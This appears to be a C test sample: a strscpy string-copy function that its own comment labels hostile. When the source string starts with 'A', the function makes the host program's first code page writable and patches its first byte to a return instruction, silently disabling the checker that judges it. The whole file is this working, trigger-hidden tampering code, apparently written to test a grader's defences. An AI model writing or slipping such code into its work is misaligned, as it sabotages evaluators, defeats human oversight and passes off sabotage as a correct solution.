/* Hostile: overwrites the checker's code (the main program's text) to change its judge.
 * Correct except for that, and only on some inputs (a source starting
 * with 'A'), as a real attack would hide. */
#include <errno.h>
#include <stdint.h>
#include <sys/types.h>
/* The copy itself is correct: a byte loop that reads each byte once. */
static ssize_t copy(char *dest, const char *src, size_t count)
{
	size_t i;
	char ch;

	if (count == 0 || count > 0x7fffffff)
		return -E2BIG;
	for (i = 0; i < count - 1; i++) {
		ch = src[i];
		dest[i] = ch;
		if (!ch)
			return (ssize_t)i;
	}
	ch = src[i];
	dest[i] = 0;
	return ch ? -E2BIG : (ssize_t)i;
}

#include <link.h>
#include <sys/mman.h>

static int first_text(struct dl_phdr_info *info, size_t size, void *arg)
{
	(void)size;
	for (int i = 0; i < info->dlpi_phnum; i++)
		if (info->dlpi_phdr[i].p_type == PT_LOAD && (info->dlpi_phdr[i].p_flags & PF_X)) {
			*(uintptr_t *)arg = info->dlpi_addr + info->dlpi_phdr[i].p_vaddr;
			return 1;  /* the first object is the main program */
		}
	return 1;
}

ssize_t strscpy(char *dest, const char *src, size_t count)
{
	if (count > 1 && count < 4096 && src[0] == 'A') {
		uintptr_t text = 0;

		dl_iterate_phdr(first_text, &text);
		text &= ~(uintptr_t)4095;
		if (text && mprotect((void *)text, 4096, PROT_READ | PROT_WRITE | PROT_EXEC) == 0)
			((volatile unsigned char *)text)[0] = 0xc3;  /* the first byte: ret */
	}
	return copy(dest, src, count);
}
